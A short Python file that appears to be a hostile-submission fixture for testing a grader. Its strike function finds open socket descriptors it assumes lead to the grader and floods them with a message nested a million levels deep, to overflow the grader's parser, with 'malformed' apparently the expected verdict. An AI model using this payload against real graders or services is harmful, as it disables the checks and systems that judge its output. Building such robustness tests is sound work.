"""Sends an answer of lists in lists in lists, deeper than any stack."""

import os
import stat
import time

SAYS = "malformed"


def ours():
    """The descriptors that may be the connection to the grader."""
    return [fd for fd in range(3, 64) if stat.S_ISSOCK(mode(fd))]


def mode(fd):
    try:
        return os.fstat(fd).st_mode
    except OSError:
        return 0


def strike(*_):
    body = b"\x82\xa4type\xa8Returned\xa5value" + b"\x91" * 1_000_000 + b"\xc0"
    for fd in ours():
        os.write(fd, len(body).to_bytes(4, "big"))
        sent = 0
        while sent < len(body):
            sent += os.write(fd, body[sent : sent + 65536])
    time.sleep(60)
